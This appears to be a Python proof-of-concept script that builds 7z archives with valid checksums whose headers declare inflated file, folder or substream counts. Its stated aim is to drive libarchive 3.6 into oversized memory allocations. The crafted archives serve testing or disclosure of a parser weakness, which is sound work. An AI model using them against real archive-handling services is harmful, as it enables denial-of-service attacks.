#!/usr/bin/env python3
"""Writes 7z archives whose header declares more files than it has bytes (7zFormat.txt layout).

  make_lying_7z.py plain      OUT FILES    the header as it is, 7-Zip's -mhc=off layout
  make_lying_7z.py encoded    OUT FILES    the header LZMA-compressed, 7-Zip's default layout
  make_lying_7z.py folders    OUT COUNT    a plain header listing COUNT folders it does not hold
  make_lying_7z.py substreams OUT COUNT    one folder said to hold COUNT files' streams

All have valid CRCs everywhere, so only the counts are wrong: libarchive 3.6 would allocate an
entry table of FILES x ~90 bytes, or arrays of COUNT folders or streams, from them.
"""
import lzma
import struct
import sys
import zlib


def number(value):
    """7z's variable-length UINT64: leading one bits of the first byte count extra bytes."""
    for extra in range(9):
        if extra < 8 and value < (1 << (7 * (extra + 1))):
            high = value >> (8 * extra)
            first = (0xFF << (8 - extra)) & 0xFF | high
            return bytes([first]) + (value & ((1 << (8 * extra)) - 1)).to_bytes(extra, "little")
    return b"\xFF" + value.to_bytes(8, "little")


def archive(body, header):
    start = struct.pack("<QQI", len(body), len(header), zlib.crc32(header))
    return b"7z\xBC\xAF\x27\x1C\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + body + header


def main():
    layout, out, files = sys.argv[1], sys.argv[2], int(sys.argv[3])
    # kHeader, kFilesInfo NumFiles, kEnd of the file properties, kEnd of the header.
    plain = b"\x01\x05" + number(files) + b"\x00\x00"
    if layout == "folders":
        # kHeader, kMainStreamsInfo, kUnpackInfo, kFolder COUNT, not external: and no folder.
        data = archive(b"", b"\x01\x04\x07\x0B" + number(files) + b"\x00")
    elif layout == "substreams":
        # One folder (a copy coder) of 5 bytes, said to hold COUNT streams; one file.
        header = (b"\x01\x04"
                  + b"\x07\x0B" + number(1) + b"\x00" + number(1) + b"\x01\x00" + b"\x0C" + number(5) + b"\x00"
                  + b"\x08\x0D" + number(files) + b"\x00"
                  + b"\x00"
                  + b"\x05" + number(1) + b"\x00\x00")
        data = archive(b"", header)
    elif layout == "plain":
        data = archive(b"", plain)
    else:
        dictionary = 1 << 16
        packed = lzma.compress(plain, format=lzma.FORMAT_RAW,
                               filters=[{"id": lzma.FILTER_LZMA1, "dict_size": dictionary,
                                         "lc": 3, "lp": 0, "pb": 2}])
        properties = bytes([(2 * 5 + 0) * 9 + 3]) + struct.pack("<I", dictionary)
        encoded = (b"\x17"
                   + b"\x06" + number(0) + number(1) + b"\x09" + number(len(packed)) + b"\x00"
                   + b"\x07\x0B" + number(1) + b"\x00"
                   + number(1) + b"\x23\x03\x01\x01" + number(len(properties)) + properties
                   + b"\x0C" + number(len(plain)) + b"\x00"
                   + b"\x00")
        data = archive(packed, encoded)
    with open(out, "wb") as handle:
        handle.write(data)


if __name__ == "__main__":
    main()
